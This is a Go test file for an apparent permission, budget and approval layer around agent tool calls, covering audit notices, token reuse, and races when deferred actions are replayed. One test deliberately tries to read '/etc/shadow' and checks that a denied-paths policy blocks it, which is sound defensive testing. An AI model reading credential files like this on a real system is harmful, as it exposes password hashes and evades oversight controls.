func TestNotices(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	kinds := func() map[string][]security.Notice {
		r.mu.Lock()
		defer r.mu.Unlock()
		m := map[string][]security.Notice{}
		for _, n := range r.notices {
			m[n.Kind] = append(m[n.Kind], n)
		}
		r.notices = nil
		return m
	}
	s := r.session("s", security.Safe, &asker{d: approval.AllowAlways})
	if _, err := r.ic.Run(ctx, r.file(security.FileRead, s, "src/main.go"), &counter{}); err != nil {
		t.Fatal(err)
	}
	got := kinds()
	if len(got["capability_granted"]) != 1 || got["capability_granted"][0].Decision.TokenID == "" {
		t.Errorf("capability_granted: %+v", got["capability_granted"])
	}
	if len(got["budget_reserved"]) != 1 || len(got["audit_entry"]) != 2 || len(got["decision"]) != 1 || !got["decision"][0].Decision.Allowed {
		t.Errorf("notices of an allowed action: %v", got)
	}
	// The same read is now authorised by the token.
	if _, err := r.ic.Run(ctx, r.file(security.FileRead, s, "src/main.go"), &counter{}); err != nil {
		t.Fatal(err)
	}
	if d := kinds()["decision"]; len(d) != 1 || d[0].Decision.TokenID == "" {
		t.Errorf("token use: %+v", d)
	}
	// A policy denial.
	_, err := r.ic.Run(ctx, r.file(security.FileRead, s, "/etc/shadow"), &counter{})
	wantDenied(t, err, security.StepPolicy, "denied_paths")
	if d := kinds()["decision"]; len(d) != 1 || d[0].Decision.Allowed || d[0].Decision.Step != security.StepPolicy || d[0].Decision.Rule != "denied_paths" {
		t.Errorf("policy denial: %+v", d)
	}
	// A budget refusal.
	a := r.file(security.FileRead, s, "src/main.go")
	a.Cost = budget.FromUSD(5)
	_, err = r.ic.Run(ctx, a, &counter{})
	wantDenied(t, err, security.StepBudget, "per_action")
	if b := kinds()["budget_exceeded"]; len(b) != 1 || b[0].Amount != budget.FromUSD(5) || b[0].Decision.Rule != "per_action" {
		t.Errorf("budget_exceeded: %+v", b)
	}
}

// TestReplayDeferred: an approved deferred action its runner cannot run
// as approved is claimed without running, audited as a denial, and never
// runs later; the runner sees the stored action, tool included.
func TestReplayDeferred(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	s := r.session("s", security.Safe, nil)
	ex := &counter{}
	ids := make([]string, 2)
	for i := range ids {
		a := r.file(security.FileWrite, s, fmt.Sprintf("src/g%d.go", i))
		a.Tool = "write_file"
		_, err := r.ic.Run(ctx, a, ex)
		var de *security.DeferredError
		if !errors.As(err, &de) {
			t.Fatalf("err = %v, want deferred", err)
		}
		ids[i] = de.ID
	}
	refuse := func(why string) func(security.Action) (security.Executor, error) {
		return func(a security.Action) (security.Executor, error) {
			if a.Tool != "write_file" || !strings.HasSuffix(a.Path, ".go") {
				t.Errorf("the runner got %+v", a)
			}
			return nil, errors.New(why)
		}
	}
	// Not approved yet: nothing to claim.
	if _, err := r.ic.ReplayDeferred(ctx, ids[0], refuse("changed")); !errors.Is(err, approval.ErrAlreadyResolved) {
		t.Fatalf("replaying a pending action: %v", err)
	}
	if _, err := r.ic.ReplayDeferred(ctx, "nope", refuse("changed")); !errors.Is(err, approval.ErrNotFound) {
		t.Fatalf("replaying an unknown action: %v", err)
	}
	for _, id := range ids {
		if _, err := r.ic.Resolve(ctx, id, approval.Answer{Decision: approval.AllowOnce, By: "alice"}); err != nil {
			t.Fatal(err)
		}
	}
	// Refusals and runs race: exactly one of them claims it.
	var wg sync.WaitGroup
	var refused, ran atomic.Int32
	for i := 0; i < 6; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if i%2 == 0 {
				_, err := r.ic.ReplayDeferred(ctx, ids[1], refuse("the call changed"))
				var de *security.DeniedError
				switch {
				case errors.As(err, &de) && de.Rule == security.RuleDeferredChanged:
					refused.Add(1)
				case !errors.Is(err, approval.ErrAlreadyResolved):
					t.Errorf("refusal: %v", err)
				}
			} else if _, err := r.ic.RunDeferred(ctx, ids[1], ex); err == nil {
				ran.Add(1)
			}
		}()
	}
	wg.Wait()
	if refused.Load()+ran.Load() != 1 || ex.n.Load() != ran.Load() {
		t.Fatalf("refused %d, ran %d (executor %d): want exactly one claim", refused.Load(), ran.Load(), ex.n.Load())
	}
	before := ex.n.Load()
	_, err := r.ic.ReplayDeferred(ctx, ids[0], refuse("the tool is gone"))
	wantDenied(t, err, security.StepApproval, security.RuleDeferredChanged)
	if _, err := r.ic.RunDeferred(ctx, ids[0], ex); !errors.Is(err, approval.ErrAlreadyResolved) || ex.n.Load() != before {
		t.Fatalf("a refused action ran later: %v", err)
	}
	d, _ := r.db.Deferred().GetDeferred(ctx, ids[0])
	if d.Status != approval.Done || d.Result != "not run: the tool is gone" {
		t.Errorf("refused record: %s %q", d.Status, d.Result)
	}
	var stored security.Action
	if err := json.Unmarshal(d.Action, &stored); err != nil || stored.Tool != "write_file" {
		t.Errorf("stored action %+v (%v): the tool is lost", stored, err)
	}
	found := false
	for _, e := range r.entries() {
		if e.Decision == audit.Denied && e.Proof.Rule == security.RuleDeferredChanged && e.Proof.Approval == "deferred:"+ids[0]+":allow_once" && strings.Contains(e.Text, "the tool is gone") {
			found = true
		}
	}
	if !found {
		t.Error("the refusal is not in the audit log")
	}
}
